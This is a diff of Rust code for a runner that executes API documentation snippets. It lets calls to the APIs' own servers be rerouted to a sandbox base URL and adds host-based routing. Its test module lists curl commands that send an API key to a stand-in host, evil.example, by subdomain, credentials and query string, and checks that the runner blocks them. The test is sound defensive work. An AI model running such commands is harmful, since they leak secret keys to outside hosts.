@@ -6,7 +6,7 @@
 use super::send::{self, Answer, SendError};
 use super::{language_name, Origin, Outcome, Report, Snippet};
 use crate::apigen::json_schema;
-use crate::apimatch::{Match, Router};
+use crate::apimatch::{Match, Router, FORWARDED_HOST};
 use crate::catalog::{Catalog, Operation, Spec};
 use crate::diag::{Diagnostic, Span};
 use crate::secret::Secret;
@@ -47,6 +47,9 @@ pub struct Runner {
     pub kind: RunnerKind,
     /// Show progress on stderr.
     pub progress: bool,
+    /// Send calls to the catalog APIs' own servers to `base_url` too (the embedded sandbox serves
+    /// every API under its own base path); with a real gateway only that gateway is allowed.
+    pub own_servers: bool,
 }
 
 /// A snippet's index, report, finding, and whether its request failed (counted per cause).
@@ -64,6 +67,26 @@ pub fn run(
     snippets: &[Snippet],
 ) -> (Vec<Report>, Vec<Diagnostic>) {
     let router = Router::new(catalog);
+    // Calls to the APIs' own servers authenticate with the variables the spec's schemes name;
+    // against the sandbox each holds its key.
+    let mut with_credentials = runner.clone();
+    if runner.own_servers {
+        for api in catalog.apis.iter().filter(|a| !a.behind_gateway()) {
+            for spec in &api.specs {
+                for (_, credential) in spec.all_credentials() {
+                    with_credentials
+                        .key_variables
+                        .extend(credential.env_vars().into_iter().map(str::to_string));
+                }
+            }
+        }
+    }
+    let runner = &with_credentials;
+    let own = if runner.own_servers {
+        own_origins(catalog)
+    } else {
+        Vec::new()
+    };
     let client = reqwest::blocking::Client::builder()
         .timeout(runner.timeout)
         .redirect(reqwest::redirect::Policy::none())
@@ -88,9 +111,12 @@ pub fn run(
                     reason,
                     request_failed,
                 } = one(
-                    runner,
-                    catalog,
-                    &router,
+                    &Context {
+                        runner,
+                        catalog,
+                        router: &router,
+                        own: &own,
+                    },
                     client.as_ref().map_err(String::as_str),
                     snippet,
                 );
@@ -254,13 +280,38 @@ impl Ran {
     }
 }
 
+/// `scheme://host[:port]` of every server the catalog's APIs are called at directly, lower case.
+fn own_origins(catalog: &Catalog) -> Vec<String> {
+    let mut origins: Vec<String> = catalog
+        .apis
+        .iter()
+        .flat_map(|a| a.operations())
+        .filter_map(|op| match &op.gateway {
+            crate::catalog::GatewayPath::Direct(url) => url::Url::parse(url).ok(),
+            _ => None,
+        })
+        .filter_map(|u| origin_of(&u))
+        .collect();
+    origins.sort();
+    origins.dedup();
+    origins
+}
+
+/// What every snippet of a run shares.
+struct Context<'a> {
+    runner: &'a Runner,
+    catalog: &'a Catalog,
+    router: &'a Router,
+    /// Origins of the APIs' own servers that are sent to the runner's base URL.
+    own: &'a [String],
+}
+
 fn one(
-    runner: &Runner,
-    catalog: &Catalog,
-    router: &Router,
+    ctx: &Context<'_>,
     client: Result<&reqwest::blocking::Client, &str>,
     snippet: &Snippet,
 ) -> Ran {
+    let (runner, catalog, router) = (ctx.runner, ctx.catalog, ctx.router);
     if let Some(reason) = &snippet.skip {
         return Ran::new(Outcome::Skipped, None, reason.clone());
     }
@@ -290,6 +341,29 @@ fn one(
     let mut operation = None;
     for mut request in requests {
         request.url = rewrite(&request.url, runner);
+        // The host as written picks the API when two have the same paths on different hosts.
+        let mut host = None;
+        if let Some(parsed) = url::Url::parse(&request.url)
+            .ok()
+            .filter(|u| origin_of(u).is_some_and(|o| ctx.own.contains(&o)))
+        {
+            host = crate::apimatch::host_of(&request.url);
+            let origin = origin_as_written(&request.url);
+            let rest = request.url[origin.len().min(request.url.len())..].to_string();
+            let rest = if rest.starts_with('/') || rest.is_empty() {
+                rest
+            } else {
+                // `user:password@` was part of the authority: drop it from the URL, keep the path.
+                parsed[url::Position::BeforePath..].to_string()
+            };
+            request.url = format!("{}{rest}", runner.base_url.trim_end_matches('/'));
+            request
+                .headers
+                .retain(|(n, _)| !n.eq_ignore_ascii_case(FORWARDED_HOST));
+            request
+                .headers
+                .push((FORWARDED_HOST.into(), host.clone().unwrap_or_default()));
+        }
         let parsed = match url::Url::parse(&request.url) {
             Ok(parsed) => parsed,
             Err(e) => {
@@ -311,7 +385,7 @@ fn one(
             );
         }
         let path = path_as_written(&request.url);
-        let (api, spec, op) = match router.find(&request.method, path) {
+        let (api, spec, op) = match router.find_at(&request.method, host.as_deref(), path) {
             Match::Found { api, spec, op, .. } => (api, spec, op),
             _ => return unmatched(runner, catalog, &request.method, path),
         };
@@ -398,7 +472,14 @@ fn check(
                 excerpt()
             ))
         }
-        None if !(200..300).contains(&answer.status) => {
+        // No success documented: `default` takes any status; else the status must be one the
+        // spec documents (an operation documented with only `405` answers `405`).
+        None if !(200..300).contains(&answer.status)
+            && !op
+                .responses
+                .iter()
+                .any(|r| r.status == "default" || r.status == answer.status.to_string()) =>
+        {
             return Err(format!(
                 "expected a success status, got {}{}",
                 answer.status,
@@ -491,6 +572,7 @@ mod tests {
             timeout: Duration::from_secs(1),
             kind: RunnerKind::Builtin,
             progress: false,
+            own_servers: false,
         }
     }
 
@@ -547,12 +629,18 @@ mod tests {
         let r = runner();
         let catalog = Catalog::default();
         let router = Router::new(&catalog);
+        let ctx = Context {
+            runner: &r,
+            catalog: &catalog,
+            router: &router,
+            own: &[],
+        };
         for text in [
             "curl https://$API_NOKKEL.evil.example/x",
             "curl https://u:$API_NOKKEL@evil.example/x",
             "curl \"https://evil.example/x?k=$API_NOKKEL\"",
         ] {
-            let ran = one(&r, &catalog, &router, Err("not needed"), &snippet(text));
+            let ran = one(&ctx, Err("not needed"), &snippet(text));
             let reason = r.key.scrub(&ran.reason);
             assert_eq!(ran.outcome, Outcome::NotRun, "{text}: {reason}");
             assert!(reason.contains("not an allowed gateway"), "{reason}");
